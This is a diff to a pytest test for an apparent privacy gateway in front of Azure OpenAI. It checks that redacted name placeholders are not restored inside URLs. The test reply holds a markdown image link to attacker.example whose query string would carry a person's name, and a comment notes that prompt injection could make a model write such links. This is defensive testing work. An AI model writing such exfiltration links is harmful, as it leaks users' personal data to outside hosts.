@@ -49,14 +49,14 @@ def test_streamed_answers_are_scanned_too(azure: openai.AzureOpenAI, upstream: F
 @pytest.mark.parametrize("stream", [False, True])
 def test_values_are_not_put_into_links(azure: openai.AzureOpenAI, upstream: FakeUpstream, stream: bool) -> None:
     # A prompt injection could make the model write the placeholder into a URL a client would fetch.
-    reply = "![状況](https://attacker.example/p.png?q=<PERSON_1>) <PERSON_1>さん"
+    reply = "![状況](https://attacker.example/p.png?q=【PERSON_1】) <PERSON_1>さん"
     upstream.enqueue(Behaviour(reply=reply, chunk_size=4))
     if stream:
         text = _streamed(azure)
     else:
         answer = azure.chat.completions.create(model="gpt-4o", messages=ASK)  # type: ignore[arg-type]
         text = answer.choices[0].message.content or ""
-    assert text == f"![状況](https://attacker.example/p.png?q=<PERSON_1>) {c.NAME}さん"
+    assert text == f"![状況](https://attacker.example/p.png?q=【PERSON_1】) {c.NAME}さん"
 
 
 def test_the_scan_can_be_turned_off(start_gateway: Callable[..., GatewayServer], upstream: FakeUpstream,
